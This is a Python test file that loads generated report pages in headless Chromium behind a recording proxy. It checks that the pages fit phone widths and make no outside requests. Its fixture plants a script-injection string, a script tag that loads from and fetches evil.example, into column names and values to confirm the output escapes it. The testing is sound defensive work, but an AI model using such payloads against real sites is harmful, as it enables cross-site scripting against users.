"""Report pages in a real browser: Chromium, without a screen, whose every request goes through a listener of ours."""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import shutil
import subprocess
import threading
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path

import numpy as np
import polars as pl
import pytest

from keepfit.loop.compare import compare
from keepfit.loop.report import gather
from keepfit.loop.run import run
from keepfit.reports.compare import page as comparison_page
from keepfit.reports.render import html
from keepfit.reports.report import page as report_page
from keepfit.workspace import Workspace

BEGIN, NOW = datetime(2024, 1, 1, tzinfo=UTC), datetime(2024, 6, 1, tzinfo=UTC)
PATIENCE = 120.0
HOSTILE = "<script src=http://evil.example/x.js>fetch('http://evil.example')</script>"
PROJECT = """\
[problem]
name = "a-project-with-a-name-that-is-long"
statement = "Say whether an order will be sent back, before it is packed, so that somebody may look at it once more."
target = "bad"
time = "when"
key = ["number"]
value = { true_positive = 3, false_positive = -1 }

[data]
source = "rows.parquet"

[columns]
shop = { protected = true }

[model]
estimators = ["linear"]
trials = 0
"""
#: Measures the page in a frame of a given width, once it is there.
FRAME = """<!doctype html><link rel="icon" href="data:,">
<iframe src="/page.html" style="width: %dpx; height: 900px; border: 0"></iframe>
<script>document.querySelector("iframe").onload = (event) => {
  const inner = event.target.contentDocument, root = inner.documentElement;
  const wide = [...inner.querySelectorAll("body *")].filter((one) => {
    const box = one.getBoundingClientRect();
    return box.width > 0 && !one.closest("svg") && !one.closest("thead") && box.right > root.clientWidth + 1;
  });
  const fetched = event.target.contentWindow.performance.getEntriesByType("resource").map((one) => one.name);
  document.title = JSON.stringify({fetched, width: root.clientWidth, scroll: root.scrollWidth,
    wide: wide.map((one) => one.outerHTML.slice(0, 200)),
    shown: [...inner.querySelectorAll("svg")].filter((one) => one.getBoundingClientRect().width > 0).length});
}</script>"""


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """A report and a comparison, with names that would do harm if they could."""
    folder = tmp_path_factory.mktemp("pages")
    draw = np.random.default_rng(5)
    amount, count = draw.normal(size=1500), 1500
    when = pl.Series([BEGIN + timedelta(hours=2 * number) for number in range(count)], dtype=pl.Datetime("us", "UTC"))
    columns = {f"a_column_with_a_rather_long_name_{number}": draw.normal(size=count) for number in range(20)}
    names = draw.choice([HOSTILE, "a-name-without-any-space-that-is-longer-than-a-phone-is-wide-" * 2, "north"], count)
    bad = draw.random(count) < 1 / (1 + np.exp(-1.5 * amount - (names == "north")))
    shop = draw.choice(["f", "m"], count)
    table = {"number": range(count), "when": when, "amount": amount, HOSTILE: names, "shop": shop, **columns, "bad": bad}
    pl.DataFrame(table).write_parquet(folder / "rows.parquet")
    (folder / "keepfit.toml").write_text(PROJECT)
    for more in ({}, {"model.seed": 7}):
        run(Workspace(folder, options=more), now=NOW)
    ws = Workspace(folder)
    return {"report": html(report_page(gather(ws, "c1", now=NOW))), "comparison": html(comparison_page(compare(ws, "c1", "c2", now=NOW)))}


@contextlib.contextmanager
def listening(page):
    """A server of the page and of frames around it, that is the browser's proxy as well; and every address it was asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            path = re.sub(r"^http://[^/]+", "", self.path)
            framed = re.fullmatch(r"/frame/(\d+)", path)
            body = FRAME % int(framed[1]) if framed else page if path == "/page.html" else None
            self.send_response(404 if body is None else 200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write((body or "").encode())

        def do_CONNECT(self):
            asked.append(self.path)
            self.send_error(403)

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def foreign(asked):
    """What was asked for, without what Chromium asks for by itself: its maker's clock, accounts and search."""
    own = {"clients2.google.com", "accounts.google.com", "www.google.com", "update.googleapis.com", "optimizationguide-pa.googleapis.com"}
    return [address for address in asked if re.split("[:/]", address.removeprefix("http://"))[0] not in own]


def browse(address, place, profile, *options):
    """What the browser makes of a page, and what it says on its console."""
    program = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    assert program, "these tests need Chromium: apt-get install chromium"
    quiet = [
        "--headless",
        "--no-sandbox",
        f"--proxy-server=http://{place}",
        "--proxy-bypass-list=<-loopback>",
        f"--user-data-dir={profile}",
    ]
    quiet += ["--enable-logging=stderr", "--window-size=1200,1000"]
    quiet += ["--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update"]
    quiet += ["--disable-sync", "--disable-default-apps", "--disable-domain-reliability", "--disable-extensions", "--hide-scrollbars"]
    done = subprocess.run(
        [program, *quiet, *options, "--dump-dom", address],
        capture_output=True,
        text=True,
        timeout=PATIENCE,
        check=True,
    )
    return done.stdout, [line for line in done.stderr.splitlines() if "CONSOLE" in line]


@pytest.mark.parametrize("name", ["report", "comparison"])
def test_a_page_fetches_nothing_runs_nothing_and_fits_a_phone_in_light_and_dark(pages, name, tmp_path):
    with listening(pages[name]) as (place, asked):
        for number, (width, *options) in enumerate([(390,), (320,), (1100,), (390, "--blink-settings=preferredColorScheme=0")]):
            asked.clear()
            dom, console = browse(f"http://{place}/frame/{width}", place, tmp_path / str(number), *options)
            found = json.loads(unescape(re.search(r"<title>(.*?)</title>", dom)[1]))
            assert (found["width"], found["scroll"], found["wide"]) == (width, width, []), found
            assert found["shown"] >= 3
            assert console == []
            assert found["fetched"] == []
            assert [address for address in foreign(asked) if place not in address] == []


def test_a_page_from_the_disk_asks_for_nothing_at_all(pages, tmp_path):
    path = Path(tmp_path / "page.html")
    path.write_text(pages["report"], encoding="utf-8")
    with listening("") as (place, asked):
        dom, console = browse(path.as_uri(), place, tmp_path / "profile")
    assert "The evidence" in dom
    assert console == []
    assert foreign(asked) == []
